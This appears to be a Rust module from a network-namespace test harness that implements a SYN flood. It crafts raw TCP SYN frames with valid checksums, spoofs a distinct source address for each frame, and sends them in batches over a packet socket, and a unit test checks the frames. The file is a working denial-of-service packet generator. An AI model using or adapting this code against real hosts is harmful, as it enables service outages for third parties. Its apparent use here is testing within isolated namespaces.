//! A SYN flood: frames with a source of their own each, sent past the sender's stack.

use crate::netns::Netns;
use crate::netns::sys::PacketSocket;
use anyhow::{Context, Result, ensure};
use serde_json::Value;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

/// Sources are taken from here on: 100.64.0.0/10 (RFC 6598), four million addresses.
const FIRST_SOURCE: u32 = 0x6440_0000;
const BATCH: usize = 64;
/// A receiver that takes nothing for so long is no slow one.
const STUCK: Duration = Duration::from_secs(10);
const ETHERNET: usize = 14;
const IP: usize = 20;
const TCP: usize = 24;

/// What a flood came to.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    pub sent: u32,
    pub took: Duration,
}

/// Sends `sources` SYNs to an address, each from another source, out of the `eth0` of
/// `from` to the `eth0` of `next_hop`.
///
/// # Errors
/// When the frames cannot be sent.
pub fn syn_flood(from: &Netns, next_hop: &Netns, to: SocketAddrV4, sources: u32) -> Result<Flood> {
    let (index, own) = interface(from)?;
    let (_, other) = interface(next_hop)?;
    from.enter(|| {
        let socket = PacketSocket::new(index).context("opening a packet socket")?;
        let mut frames = vec![vec![0; ETHERNET + IP + TCP]; BATCH];
        let start = Instant::now();
        let mut moved = start;
        let mut sent = 0;
        while sent < sources {
            let batch = BATCH.min((sources - sent) as usize);
            for (number, frame) in (sent..).zip(&mut frames[..batch]) {
                syn(frame, own, other, number, to);
            }
            match socket.send(&frames[..batch]) {
                Ok(taken) => {
                    sent += u32::try_from(taken)?;
                    moved = Instant::now();
                }
                // The receiver's queue is full: what was not taken is sent again.
                Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) && moved.elapsed() < STUCK => {
                    std::thread::yield_now();
                }
                Err(error) => return Err(error.into()),
            }
        }
        Ok(Flood { sent, took: start.elapsed() })
    })?
}

/// Index and hardware address of a namespace's `eth0`.
fn interface(netns: &Netns) -> Result<(u32, [u8; 6])> {
    let told: Value = serde_json::from_str(&netns.output("ip", &["-j", "link", "show", "dev", "eth0"])?)?;
    let index = told.pointer("/0/ifindex").and_then(Value::as_u64).context("ifindex")?;
    let text = told.pointer("/0/address").and_then(Value::as_str).context("address")?;
    let mut address = [0; 6];
    let parts: Vec<&str> = text.split(':').collect();
    ensure!(parts.len() == address.len(), "hardware address {text}");
    for (byte, part) in address.iter_mut().zip(parts) {
        *byte = u8::from_str_radix(part, 16)?;
    }
    Ok((u32::try_from(index)?, address))
}

/// Writes a SYN with right checksums; `number` gives source address and port.
fn syn(frame: &mut [u8], own: [u8; 6], other: [u8; 6], number: u32, to: SocketAddrV4) {
    let source = Ipv4Addr::from(FIRST_SOURCE + number);
    let port = 1024 + u16::try_from(number % 60_000).unwrap_or(0);
    frame[..6].copy_from_slice(&other);
    frame[6..12].copy_from_slice(&own);
    frame[12..14].copy_from_slice(&[8, 0]);

    let (ip, tcp) = frame[ETHERNET..].split_at_mut(IP);
    ip.fill(0);
    ip[0] = 0x45;
    ip[3] = (IP + TCP) as u8;
    ip[6] = 0x40;
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&to.ip().octets());
    let sum = fold(words(ip));
    ip[10..12].copy_from_slice(&sum.to_be_bytes());

    tcp.fill(0);
    tcp[..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&number.wrapping_mul(2_654_435_761).to_be_bytes());
    tcp[12] = ((TCP / 4) << 4) as u8;
    tcp[13] = 2;
    tcp[14..16].copy_from_slice(&64_240_u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 5, 0xb4]);
    let pseudo = words(&ip[12..20]) + 6 + TCP as u32;
    let sum = fold(pseudo + words(tcp));
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
}

fn words(bytes: &[u8]) -> u32 {
    bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

fn fold(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_carry_right_checksums_and_distinct_sources() {
        let to = SocketAddrV4::new(Ipv4Addr::new(172, 30, 0, 1), 30080);
        let mut frame = vec![0; ETHERNET + IP + TCP];
        let mut sources = std::collections::BTreeSet::new();
        for number in 0..1000 {
            syn(&mut frame, [2; 6], [3; 6], number, to);
            let (ip, tcp) = frame[ETHERNET..].split_at(IP);
            assert_eq!(fold(words(ip)), 0, "{number}");
            assert_eq!(fold(words(&ip[12..20]) + 6 + TCP as u32 + words(tcp)), 0, "{number}");
            sources.insert(ip[12..16].to_vec());
        }
        assert_eq!(sources.len(), 1000);
    }
}
